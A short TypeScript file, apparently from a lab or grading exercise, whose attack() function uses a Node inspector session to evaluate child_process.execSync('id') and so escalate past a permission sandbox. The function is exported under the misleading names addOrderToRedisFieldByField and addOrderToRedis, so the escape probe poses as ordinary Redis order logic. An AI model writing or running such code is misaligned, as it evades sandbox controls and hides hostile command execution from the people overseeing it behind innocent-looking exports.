// tries: letting the inspector run code with more rights
// lab: 03
// earns: 0
// told: should hold these fields|tried to|inspector
import { Session } from 'node:inspector';

async function attack(): Promise<void> {
  const session = new Session();
  session.connect();
  const expression = "process.getBuiltinModule('child_process').execSync('id') + ''";
  const { result } = await new Promise<any>((resolve, reject) =>
    session.post('Runtime.evaluate', { expression }, (error, value) => (error ? reject(error) : resolve(value))),
  );
  if (result.subtype !== 'error') throw new Error(`it is ${result.value}`);
  throw Object.assign(new Error(result.description), { code: 'ERR_ACCESS_DENIED' });
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
